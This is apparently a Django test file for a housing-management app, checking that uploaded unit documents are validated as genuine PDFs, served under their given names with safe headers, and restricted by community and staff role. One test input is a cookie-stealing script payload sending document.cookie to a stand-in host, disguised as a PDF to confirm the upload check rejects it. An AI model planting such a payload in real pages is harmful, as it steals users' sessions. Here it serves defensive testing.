"""Household documents through guanjia/core/files: checked on the page, linked and served by
files:serve with the name the user gave, scoped to the viewer's communities."""

import re

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from guanjia.accounts.tests.factories import staff
from guanjia.core.files.registry import file_url
from guanjia.estates import services
from guanjia.estates.models import UnitDocument

from .factories import UnitFactory

HTML = b"<!doctype html><script>document.location='//x/?'+document.cookie</script>"


def _document(world, community, name="购房合同.pdf"):
    return services.upload_unit_document(
        unit=UnitFactory(community=community),
        kind="contract",
        upload=SimpleUploadedFile(name, b"%PDF-1.4\n", content_type="application/pdf"),
        by=world.user("receptionist")
        if community == world.a
        else staff("receptionist", community, company=world.company),
    )


def test_a_page_disguised_as_a_pdf_gets_a_field_error_on_the_form(world):
    world.language = "en"
    unit = UnitFactory(community=world.a)
    fake = SimpleUploadedFile("合同.pdf", HTML, content_type="application/pdf")
    response = world.client("receptionist").post(
        reverse("estates:document-create", args=[unit.pk]), {"kind": "contract", "file": fake}
    )
    assert response.status_code == 200
    assert "The file&#x27;s content is not the PDF its name says." in response.content.decode()
    assert not UnitDocument.objects.exists()


def test_a_document_is_linked_and_served_under_the_name_it_was_given(world):
    document = _document(world, world.a)
    url = file_url(document, "file")
    assert re.fullmatch(r"/files/estates/unitdocument/\d+/file/", url)
    page = world.client("receptionist").get(reverse("estates:unit-detail", args=[document.unit_id]))
    assert f'href="{url}"' in page.content.decode()
    response = world.client("director").get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        "inline; filename*=utf-8''%E8%B4%AD%E6%88%BF%E5%90%88%E5%90%8C.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"


def test_another_communitys_document_is_a_404_and_security_gets_403(world):
    theirs = _document(world, world.b)
    assert world.client("director").get(file_url(theirs, "file")).status_code == 404
    ours = _document(world, world.a)
    assert world.client("security").get(file_url(ours, "file")).status_code == 403
